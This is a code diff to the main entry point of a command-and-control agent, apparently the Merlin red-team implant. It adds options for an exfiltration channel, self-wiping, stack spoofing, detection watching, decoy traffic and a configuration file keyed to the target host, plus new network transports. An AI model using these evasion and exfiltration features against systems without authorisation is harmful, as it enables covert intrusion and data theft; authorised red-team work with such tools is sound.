+		os.Exit(1)
+	}
+
+	// Agree on an ephemeral pre-authentication secret before authenticating
+	err = preKey.SetEnabled(prekey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the public key used to verify PSK rotations
+	err = pskRotation.SetKey(pskkey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the task rate governor limits
+	err = governor.SetRate(jobrate)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = governor.SetConcurrent(netjobs)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Remove the Agent's artifacts from the host when the kill date, or the maximum number of failed checkins, is reached
+	err = wipe.SetEnabled(killwipe)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = wipe.SetRetry(maxretrywipe)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the dead-man switch check in contract
+	err = deadman.SetAction(deadmanAction)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = deadman.SetWindow(deadmanWindow)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the split-tunnel data channel for large file transfers
+	err = exfil.SetChannel(exfilChannel)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = exfil.SetThreshold(exfilmin)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	exfil.SetKey(clients.PSKs(psk)[0])
+
+	// Set whether bind-mode listeners open a host firewall rule
+	err = firewall.SetAuto(firewallRules)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the working hours the agent checks in during
+	err = schedule.Set(workhours)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set whether the agent keeps an engagement record
+	err = record.SetEnabled(recordEngagement)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set whether the agent spoofs the return address of sensitive API calls and of its sleep
+	err = spoof.SetEnabled(stackspoof)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the message count and interval after which the agent re-authenticates
+	err = reauth.Set(reauthenticate)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the server public key the envelope transform encrypts message keys to
+	err = envelope.SetKey(serverkey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the offline operator public key sensitive job results are sealed to
+	err = seal.SetKey(sealkey)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	seal.SetCommands(sealcmds)
+
+	// Generate harmless, labeled artifacts for the purple-team commands
+	purple.SetCommands(purpleCmds)
+
+	// Cache and override the resolved C2 hostname addresses
+	err = resolve.SetTTL(dnsttl)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = resolve.SetOverrides(dnsoverride)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Watch for network changes
+	interval, err := netwatch.Parse(netwatchInterval)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	netwatch.Start(interval)
+
+	// Watch for signs the agent was detected
+	interval, err = detect.Parse(detectInterval)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	detect.Start(interval)
+
+	// Send decoy requests interleaved with the agent's check-ins
+	err = decoy.SetTargets(decoyTargets, url)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	interval, err = decoy.Parse(decoyInterval)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+	err = decoy.Start(interval, useragent, proxy)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
+	// Set the maximum message size before it is split into chunks
+	err = chunk.SetSize(chunksize)
+	if err != nil {
+		if *verbose {
+			color.Red(err.Error())
+		}
+		os.Exit(1)
+	}
+
 	// Parse the secure flag
 	var verify bool
 	verify, err = strconv.ParseBool(secure)
@@ -191,40 +925,102 @@ func main() {
 		os.Exit(1)
 	}
 
+	// Raw IP sockets require elevated privileges, fall back to UDP if they can't be opened
+	if protocol == "raw-bind" || protocol == "raw-reverse" {
+		proto, err := raw.Protocol(rawproto)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+		if !raw.Privileged(proto) {
+			protocol = strings.Replace(protocol, "raw", "udp", 1)
+			if *verbose {
+				color.Yellow(fmt.Sprintf("main: insufficient privileges to open a raw IP socket, falling back to %s", protocol))
+			}
+		}
+	}
+
 	// Get the client
 	var client clients.Client
 	var listenerID uuid.UUID
 	switch protocol {
 	case "http", "https", "h2", "h2c", "http3":
-		clientConfig := http.Config{
+		client, err = newHTTPClient(a.ID(), protocol, url, nil)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+		// Allow the server to switch the Agent to another HTTP transport at runtime
+		clientService.SetBuilder(func(protocol, addr string, settings map[string]string) (clients.Client, error) {
+			return newHTTPClient(a.ID(), protocol, addr, settings)
+		})
+	case "tcp-bind", "tcp-reverse", "airgap":
+		listenerID, err = uuid.Parse(listener)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+		config := tcp.Config{
 			AgentID:      a.ID(),
-			Protocol:     protocol,
-			Host:         host,
-			Headers:      headers,
-			Proxy:        proxy,
-			UserAgent:    useragent,
+			ListenerID:   listenerID,
 			PSK:          psk,
-			JA3:          ja3,
-			Parrot:       parrot,
-			Padding:      padding,
+			Address:      []string{addr},
 			AuthPackage:  auth,
-			Opaque:       opaque,
+			Backup:       backup,
 			Transformers: transforms,
-			InsecureTLS:  !verify,
+			Mode:         protocol,
+			Obfuscation:  obfs,
+			Padding:      padding,
+			Throttle:     throttle,
+			Rekey:        rekey,
+			Sleep:        p2psleep,
+			Jitter:       p2pjitter,
 		}
 
-		if url != "" {
-			clientConfig.URL = strings.Split(strings.ReplaceAll(url, " ", ""), ",")
+		// Get the client
+		client, err = tcp.New(config)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+	case "udp-bind", "udp-reverse":
+		listenerID, err = uuid.Parse(listener)
+		if err != nil {
+			if *verbose {
+				color.Red(err.Error())
+			}
+			os.Exit(1)
+		}
+		config := udp.Config{
+			AgentID:      a.ID(),
+			ListenerID:   listenerID,
+			PSK:          psk,
+			Address:      []string{addr},
+			AuthPackage:  auth,
+			Transformers: transforms,
+			Mode:         protocol,
+			Padding:      padding,
+			Throttle:     throttle,
+			Rekey:        rekey,
 		}
 
-		client, err = http.New(clientConfig)
+		// Get the client
+		client, err = udp.New(config)
 		if err != nil {
 			if *verbose {
 				color.Red(err.Error())
 			}
 			os.Exit(1)
 		}
-	case "tcp-bind", "tcp-reverse":
+	case "raw-bind", "raw-reverse":
 		listenerID, err = uuid.Parse(listener)
 		if err != nil {
 			if *verbose {
@@ -232,7 +1028,7 @@ func main() {
 			}
 			os.Exit(1)
 		}
-		config := tcp.Config{
+		config := raw.Config{
 			AgentID:      a.ID(),
 			ListenerID:   listenerID,
 			PSK:          psk,
@@ -241,17 +1037,20 @@ func main() {
 			Transformers: transforms,
 			Mode:         protocol,
 			Padding:      padding,
+			Throttle:     throttle,
+			Rekey:        rekey,
+			Protocol:     rawproto,
 		}
 
 		// Get the client
-		client, err = tcp.New(config)
+		client, err = raw.New(config)
 		if err != nil {
 			if *verbose {
 				color.Red(err.Error())
 			}
 			os.Exit(1)
 		}
-	case "udp-bind", "udp-reverse":
+	case "quic":
 		listenerID, err = uuid.Parse(listener)
 		if err != nil {
 			if *verbose {
@@ -259,19 +1058,22 @@ func main() {
 			}
 			os.Exit(1)
 		}
-		config := udp.Config{
+		config := quic.Config{
 			AgentID:      a.ID(),
 			ListenerID:   listenerID,
 			PSK:          psk,
 			Address:      []string{addr},
 			AuthPackage:  auth,
 			Transformers: transforms,
-			Mode:         protocol,
 			Padding:      padding,
+			Throttle:     throttle,
+			Rekey:        rekey,
+			InsecureTLS:  !verify,
+			Pin:          pin,
 		}
 
 		// Get the client
-		client, err = udp.New(config)
+		client, err = quic.New(config)
 		if err != nil {
 			if *verbose {
 				color.Red(err.Error())
@@ -292,9 +1094,12 @@ func main() {
 			AuthPackage:  auth,
 			ListenerID:   listenerID,
 			Padding:      padding,
+			Throttle:     throttle,
+			Rekey:        rekey,
 			PSK:          psk,
 			Transformers: transforms,
 			Mode:         protocol,
+			Obfuscation:  obfs,
 		}
 		// Get the client
 		client, err = smb.New(config)
@@ -311,6 +1116,11 @@ func main() {
 		}
 	}
 
+	// Continue the replaced Agent's session and return the update job's result
+	if resumed {
+		resume(&a, client, handover)
+	}
+
 	// Start the agent
 	run.Run(a, client)
 }
@@ -322,6 +1132,173 @@ func usage() {
 	os.Exit(0)
 }
 
+// encryptConfigFile encrypts the JSON configuration file with the -configkey passphrase and writes it to the -configfile path
+func encryptConfigFile(path string) error {
+	if configFile == "" {
+		return fmt.Errorf("the -configfile flag is required to encrypt a configuration file")
+	}
+	switch strings.ToLower(configKey) {
+	case config.HOSTNAME, config.MACHINEID:
+		return fmt.Errorf("the -configkey flag must be the target's lower case %s, not the name of the key", configKey)
+	}
+	data, err := os.ReadFile(path) // #nosec G304 -- The configuration file path is provided by the operator
+	if err != nil {
+		return fmt.Errorf("there was an error reading the configuration file: %s", err)
+	}
+	data, err = config.Encrypt(data, configKey)
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(configFile, data, 0600)
+}
+
+// loadConfigFile decrypts the -configfile and applies it
+func loadConfigFile(explicit map[string]bool) error {
+	passphrase, err := config.Passphrase(configKey)
+	if err != nil {
+		return err
+	}
+	c, err := config.Load(configFile, passphrase)
+	if err != nil {
+		return err
+	}
+	// The configuration file can't point to another one
+	delete(c.Settings, "configfile")
+	delete(c.Settings, "configkey")
+	return applyConfig(c, explicit)
+}
+
+// applyConfig sets every flag in the configuration that wasn't given on the command line or redacted
+func applyConfig(c config.Config, explicit map[string]bool) error {
+	redacted := make(map[string]bool)
+	for _, name := range c.Redacted {
+		redacted[name] = true
+	}
+	for name, value := range c.Settings {
+		if explicit[name] || redacted[name] {
+			continue
+		}
+		err := flag.Set(name, value)
+		if err != nil {
+			return fmt.Errorf("there was an error setting %s from the configuration: %s", name, err)
+		}
+	}
+	return nil
+}
+
+// applyChannel adds the -channels profiles and sets every flag in the -channel profile that wasn't given on the command
+// line or in the environment
+func applyChannel(explicit map[string]bool) error {
+	list, err := channel.Parse(channelProfiles)
+	if err != nil {
+		return err
+	}
+	channel.Add(list)
+	if channelProfile == "" {
+		return nil
+	}
+	p, err := channel.Get(channelProfile)
+	if err != nil {
+		return err
+	}
+	err = applyConfig(config.Config{Settings: p.Settings}, explicit)
+	if err != nil {
+		return err
+	}
+	channel.SetCurrent(p.Name)
+	return nil
+}
+
+// resume continues the session of the Agent this one replaced, when its client handed the session over, removes the
+// replaced executable, and queues the result of the update job that replaced it
+func resume(a *agent.Agent, client clients.Client, handover update.Handover) {
+	stdout := fmt.Sprintf("Updated the agent from version %s to version %s (build %s), now running as process %d", handover.Version, core.Version, core.Build, os.Getpid())
+	var stderr string
+	// Server-signed PSK rotations and pushed configurations the replaced Agent applied can't be replayed
+	pskRotation.SetSerial(handover.Serials.PSK)
+	reload.SetSerial(handover.Serials.Config)
+	if resumer, ok := client.(clients.Resumer); ok && handover.Session != nil {
+		err := resumer.Resume(*handover.Session)
+		if err != nil {
+			stderr = err.Error()
+		} else {
+			a.SetAuthenticated(true)
+		}
+	}
+	if !a.Authenticated() {
+		stdout += "; the session was not handed over so the agent authenticates again"
+	}
+	job.NewJobService(a.ID()).AddJobResult(handover.Job, handover.Token, stdout, stderr)
+
+	go func() {
+		err := update.Cleanup(handover.Old)
+		if err != nil {
+			cli.Message(cli.WARN, err.Error())
+		}
+	}()
+}
+
+// newHTTPClient builds an HTTP client for the protocol and comma separated URLs from the Agent's configuration.
+// Any settings, keyed by their command line flag name, replace the configured values for this client only
+func newHTTPClient(id uuid.UUID, protocol, urls string, settings map[string]string) (clients.Client, error) {
+	value := func(name string) string {
+		if v, ok := settings[name]; ok {
+			return v
+		}
+		return flag.Lookup(name).Value.String()
+	}
+
+	// The PSK comes from the Agent's current configuration, not the flag, so that a server-signed rotation is kept
+	key := settings["psk"]
+	if key == "" {
+		key = config.Get("psk")
+	}
+	if key == "" {
+		key = value("psk")
+	}
+
+	verify, err := strconv.ParseBool(value("secure"))
+	if err != nil {
+		return nil, fmt.Errorf("there was an error parsing the secure setting: %s", err)
+	}
+
+	fallback, err := strconv.ParseBool(value("echfallback"))
+	if err != nil {
+		return nil, fmt.Errorf("there was an error parsing the echfallback setting: %s", err)
+	}
+
+	clientConfig := http.Config{
+		AgentID:      id,
+		Protocol:     protocol,
+		Host:         value("host"),
+		Headers:      value("headers"),
+		Proxy:        value("proxy"),
+		UserAgent:    value("useragent"),
+		PSK:          key,
+		JA3:          value("ja3"),
+		Parrot:       value("parrot"),
+		Padding:      value("padding"),
+		Throttle:     value("throttle"),
+		Rekey:        value("rekey"),
+		AuthPackage:  value("auth"),
+		Opaque:       opaque,
+		Transformers: value("transforms"),
+		InsecureTLS:  !verify,
+		Pin:          value("pin"),
+		ECH:          value("ech"),
+		ECHFallback:  fallback,
+		Profile:      value("profile"),
+		Rotation:     value("rotation"),
+		Backup:       value("backup"),
+	}
+
+	if urls != "" {
+		clientConfig.URL = strings.Split(strings.ReplaceAll(urls, " ", ""), ",")
+	}
+
+	return http.New(clientConfig)
+}
+
 // getArgsFromStdIn reads merlin agent command line arguments from STDIN so that they can be piped in
 func getArgsFromStdIn(input chan string, verbose bool) {
 	defer close(input)